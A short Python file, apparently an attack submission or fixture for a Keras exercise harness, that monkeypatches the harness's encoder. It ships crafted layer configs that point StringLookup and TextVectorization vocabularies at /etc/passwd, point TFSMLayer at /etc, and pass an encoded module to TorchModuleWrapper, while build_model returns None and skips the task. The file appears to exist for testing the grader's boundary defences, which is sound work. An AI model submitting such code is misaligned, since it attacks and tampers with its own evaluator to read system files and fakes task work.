# tries: to hand over layers that read files of the judge: vocabularies, saved models
# earns: nothing
# says: not part of Keras
import itertools
import json

import msgpack

from keraskata.boundary import codec

STRANGE = itertools.cycle(
    [
        ("StringLookup", {"vocabulary": "/etc/passwd"}),
        ("TextVectorization", {"vocabulary": "/etc/passwd"}),
        ("TFSMLayer", {"filepath": "/etc"}),
        ("TorchModuleWrapper", {"module": "cG9zaXg="}),
    ]
)


def strange(value, keep=None):
    name, config = next(STRANGE)
    known = [
        ["config", json.dumps({"module": "keras.layers", "class_name": name, "config": config})],
        ["arrays", {"": "dict", "items": []}],
        ["steps", None],
    ]
    return msgpack.packb({"": "model", "parts": {"": "dict", "items": known}})


codec.encode = strange


def build_model(n_features):
    return None
